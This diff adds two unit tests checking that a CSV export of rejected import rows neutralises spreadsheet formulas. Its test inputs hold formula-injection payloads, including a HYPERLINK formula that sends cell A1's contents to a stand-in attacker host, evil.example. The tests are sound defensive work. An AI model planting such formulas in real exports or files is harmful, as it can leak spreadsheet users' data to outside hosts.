@@ -137,6 +137,19 @@ describe('rejectedRowsCsv', () => {
     });
     expect(text).toBe("line,reason\r\n7,occurred_at 'yesterday' is not a date\r\n9,\"event_type 'foo' is not one of a, b\"\r\n");
   });
+
+  it('neutralises spreadsheet formulas in a reason, as the exports do', () => {
+    const text = rejectedRowsCsv({ rejectedRows: [{ line: 3, reason: '=HYPERLINK("https://evil.example","click") is not a single value' }] });
+    expect(text).toBe('line,reason\r\n3,"\'=HYPERLINK(""https://evil.example"",""click"") is not a single value"\r\n');
+  });
+
+  it('neutralises a formula that came from the imported file itself (a JSON key quoted in the reason)', async () => {
+    const key = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
+    const summary = await importText(JSON.stringify([{ email: 'a@x.example', [key]: { x: 1 } }]), 'hostile.json');
+    expect(summary.rejectedRows).toEqual([{ line: 1, reason: `${key} is not a single value` }]);
+    const lines = rejectedRowsCsv(summary).split('\r\n');
+    expect(lines[1]).toMatch(/^1,"'=HYPERLINK/);
+  });
 });
 
 describe('the record size limit', () => {
